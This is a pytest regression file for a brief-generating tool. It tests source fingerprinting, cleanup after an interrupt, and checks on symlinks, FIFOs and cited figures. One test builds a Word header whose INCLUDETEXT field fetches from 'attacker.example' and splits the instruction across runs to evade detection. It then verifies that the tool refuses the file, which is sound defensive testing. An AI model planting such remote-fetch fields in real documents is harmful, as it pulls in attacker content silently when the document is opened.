"""Gaps an audit of the finished issues found (#12, #14, #15, #17), one test each."""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path

from conftest import ROOT, edit, line_of, run

from briefgen import cli
from briefgen.engine.incremental import Fingerprints, Job

ARCHIVE = (ROOT / "../shared/sources").resolve()


def own_archive(project: Path) -> Path:
    """A copy of the archive of source texts that this project's register names."""
    archive = project.parent / "archive"
    shutil.copytree(ARCHIVE, archive)
    register = project / "content/sources.yaml"
    text = register.read_text(encoding="utf-8")
    register.write_text(text.replace(f"\narchive: {ARCHIVE}\n", "\narchive: ../archive\n"))
    return archive


def test_an_archived_text_is_part_of_every_jobs_fingerprint(project):
    archive = own_archive(project)
    job = Job("mini", "general", "en", "pdf")
    before = Fingerprints(project).job_digest(job)
    (archive / "README.md").write_text("not a source the register names\n")
    assert Fingerprints(project).job_digest(job) == before
    named = archive / "000_5f3906cd3e2bc6f2.txt"
    named.write_text(named.read_text(encoding="utf-8") + "\nan edit\n", encoding="utf-8")
    assert Fingerprints(project).job_digest(job) != before
    changed = Fingerprints(project).job_digest(job)
    named.unlink()
    assert Fingerprints(project).job_digest(job) != changed


def test_an_interrupt_removes_only_this_builds_partial_files(project, monkeypatch):
    out = project / "build"
    (out / "general").mkdir(parents=True)
    concurrent = subprocess.Popen(["sleep", "60"])  # another build, still writing
    try:
        theirs = out / "general" / f".mini.en.pdf.{concurrent.pid}.abc.part"
        theirs.write_bytes(b"half of another build's PDF")

        def interrupted(project, out, **options):
            (out / "general" / f".mini.en.docx.{os.getpid()}.xyz.part").write_bytes(b"half")
            raise KeyboardInterrupt

        monkeypatch.setattr(cli, "run_build", interrupted)
        result = run(project, "build", "--out", str(out))
        assert result.returncode == 130, result.stderr
        assert [path.name for path in (out / "general").iterdir()] == [theirs.name]
    finally:
        concurrent.kill()
        concurrent.wait()


def test_a_dangling_link_among_shared_datasets_is_a_located_error(project):
    (project / "content/data").mkdir()
    (project / "content/data/gone.yaml").symlink_to("/nonexistent/gone.yaml")
    result = run(project, "check")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "content/data/gone.yaml:1:1: error: " in result.stdout
    assert "internal error" not in result.stderr


def test_a_figure_that_fails_is_located_in_its_own_text(project):
    """The figure of `{=talent.app-dev}` (45%) is not in the source a sentence cites;
    a later paragraph writes 45% out. The error must point at the failing sentence."""
    brief = project / "content/mini.yaml"
    edit(brief, "{=talent.app-dev} [@takungpao-fintech].", "{=talent.app-dev} [@hkma-fintech].")
    edit(brief, "{=talent.app-dev}[@takungpao-fintech]", "{=talent.app-dev}[@hkma-fintech]")
    edit(
        brief,
        "      - chart: talent\n",
        "      - chart: talent\n      - paragraph:\n"
        "          en: Developers came first, at 45% [@takungpao-fintech].\n"
        "          zh-Hant: 開發人員居首，佔45%[@takungpao-fintech]。\n",
    )
    result = run(project, "check")
    en = line_of(brief, "lead the list at")
    errors = [line for line in result.stdout.splitlines() if "the figure '45%'" in line]
    assert len(errors) == 2, result.stdout
    assert errors[0].startswith(f"content/mini.yaml:{en}:"), errors
    assert errors[1].startswith(f"content/mini.yaml:{en + 1}:"), errors


def test_an_audience_messages_file_that_is_a_fifo_is_refused_not_skipped(project):
    """Skipped, the audience's own wording silently vanished from its editions."""
    os.mkfifo(project / "templates/audiences/general/messages.yaml")
    result = run(project, "check")
    assert result.returncode == 1, result.stdout + result.stderr
    assert (
        "templates/audiences/general/messages.yaml:1:1: error: not a regular file" in result.stdout
    )


def test_a_reference_header_with_a_fetching_field_is_refused(project):
    """INCLUDEPICTURE / INCLUDETEXT fetch a URL with no relationship to refuse; the
    instruction split over two runs, as Word writes a field it edited."""
    reference = project / "templates/docx/reference.docx"
    with zipfile.ZipFile(reference) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts["word/header9.xml"] = (
        b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\n'
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>\n'
        b"<w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "
        b'"http://attacker.example/PAYLOADXYZ" </w:instrText></w:r>\n'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )
    with zipfile.ZipFile(reference, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    result = run(project, "check")
    assert result.returncode == 1, result.stdout + result.stderr
    assert (
        "templates/docx/reference.docx:1:1: error: part word/header9.xml (line 3) has the "
        "field INCLUDETEXT" in result.stdout
    )
